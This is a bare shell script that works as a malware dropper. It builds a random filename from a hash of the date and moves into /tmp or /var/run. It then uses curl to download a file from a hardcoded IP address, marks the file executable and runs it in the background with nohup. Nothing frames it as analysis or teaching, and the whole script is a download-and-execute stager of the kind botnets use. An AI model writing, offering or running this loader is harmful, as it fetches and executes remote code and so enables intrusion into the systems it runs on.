#!/bin/sh
name=$(date | md5sum | cut -c1-8)
get() { curl -s "$1" > "$2"; chmod +x "$2"; }
cd /tmp || cd /var/run
get http://192.0.2.8/x $name; nohup ./$name &
